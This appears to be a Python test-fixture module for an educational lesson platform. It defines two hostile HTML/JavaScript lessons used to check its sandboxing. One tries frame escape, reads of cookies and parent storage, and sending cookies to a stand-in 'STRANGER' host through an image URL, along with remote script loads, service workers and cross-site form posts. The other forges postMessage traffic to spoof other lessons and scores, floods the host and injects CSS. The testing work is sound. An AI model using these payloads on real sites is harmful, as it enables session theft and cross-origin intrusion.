"""What hostile lessons try, each with what came of it: one that reaches for everything, one that lies to the page around it."""

from __future__ import annotations

#: PORT is the pages' port, STRANGER another site's host and port.
ATTACK = """<p id=first>Bonjour</p><form id=form method=post action="/x"><input name=a></form><script>
const tried = {};
const pages = location.origin.replace(/\\d+$/, PORT);
async function attempt(name, act) { try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused: " + error.name; } }
const loads = (element, address) => new Promise((yes, no) => {
  element.onload = yes; element.onerror = () => no(new Error()); element.src = address; document.body.append(element);
});
function submit(action, target) {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action, target });
  document.body.append(form);
  form.submit();
}
window.done = (async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("parent's storage", () => parent.localStorage.length);
  await attempt("parent's script", () => parent.eval("1"));
  if (top !== window) await attempt("top", () => { top.location = "about:blank#gone"; return top.location.href; });
  if (top !== window) await attempt("top's history", () => { top.history.back(); return "left"; });
  await attempt("cookie", () => document.cookie);
  await attempt("fetch elsewhere", () => fetch("http://STRANGER/steal"));
  await attempt("fetch pages", () => fetch(pages + "/fr/"));
  await attempt("fetch blindly", () => fetch(pages + "/bureau/guess/", { method: "POST", mode: "no-cors", credentials: "include", body: "x" }));
  await attempt("fetch what boxes exchange", () => fetch(pages + "/m/directory/metadata/timestamp.json"));
  await attempt("post", () => fetch("/c/", {method: "POST", body: "x"}).then(answer => answer.status));
  await attempt("put a player", () => fetch("/p/x/h5p.html", {method: "PUT", body: "x"}).then(answer => answer.status));
  await attempt("picture", () => loads(new Image(), "http://STRANGER/i.png?" + document.cookie));
  await attempt("script", () => loads(document.createElement("script"), "http://STRANGER/s.js"));
  await attempt("style", () => loads(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "http://STRANGER/s.css"}), ""));
  await attempt("popup", () => window.open("http://STRANGER/") === null ? Promise.reject(new Error()) : "opened");
  await attempt("popup of pages", () => window.open(pages + "/fr/") === null ? Promise.reject(new Error()) : "opened");
  await attempt("worker", () => navigator.serviceWorker.register("worker.js"));
  await attempt("worker in a folder", () => navigator.serviceWorker.register("inner/worker.js", {scope: "inner/"}));
  await attempt("worker above", () => navigator.serviceWorker.register("worker.js", {scope: "/"}));
  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("ws://STRANGER/"); s.onopen = yes; s.onerror = () => no(new Error()); }));
  await attempt("frame of pages", () => {
    const frame = document.createElement("iframe");
    return loads(frame, pages + "/fr/").then(() => frame.contentDocument.title);
  });
  navigator.sendBeacon(pages + "/bureau/guess/", "x");
  for (const action of ["/x", pages + "/fr/", pages + "/bureau/guess/"]) for (const target of ["", "_top", "_blank"]) submit(action, target);
  document.getElementById("form").submit();
  return tried;
})();
</script>"""

#: It speaks to the page around it as our players do, and lies.
LIES = """<script>
const say = (fields) => parent.postMessage(Object.assign({ edubox: 1 }, fields), "*");
const heard = [];
addEventListener("message", ({ data }) => heard.push(data));
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const other = "ministry/test/volcans";
const tell = {
  hello: () => say({ type: "hello" }),
  keep: (state) => say({ type: "save", state }),
  "another's hello": () => say({ type: "hello", item: "index.html", lesson: other, key: "item:" + other + ":index.html" }),
  "another's state": () => say({ type: "save", state: "stolen", item: "index.html", lesson: other, key: "item:" + other + ":index.html" }),
  "another's end": () => say({ type: "done", score: 9, most: 9, item: "index.html", lesson: other }),
  huge: () => say({ type: "save", state: "x".repeat(3e6) }),
  "six for one": () => say({ type: "save", state: "\\u0001".repeat(20000) }),
  "not a text": () => say({ type: "save", state: { deep: ["x".repeat(1000)] } }),
  flood: () => { for (let i = 0; i < 20000; i++) say({ type: "save", state: "flood " + i }); },
  nonsense: () => {
    for (const type of ["constructor", "__proto__", "toString", "hasOwnProperty", "", null, 5]) say({ type });
    for (const score of [NaN, -1, 1e9, "9", {}, null]) say({ type: "done", score, most: 5 });
    for (const whole of [null, 5, "hello", [], { edubox: 1 }, { edubox: "1", type: "hello" }]) parent.postMessage(whole, "*");
  },
  tall: () => { say({ type: "size", height: 1e12 }); say({ type: "size", height: "9999px; background: url(//x)" }); },
  inner: () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = '<script>top.postMessage({edubox: 1, type: "save", state: "inner"}, "*")</' + 'script>';
    document.body.append(frame);
  },
};
</script>"""
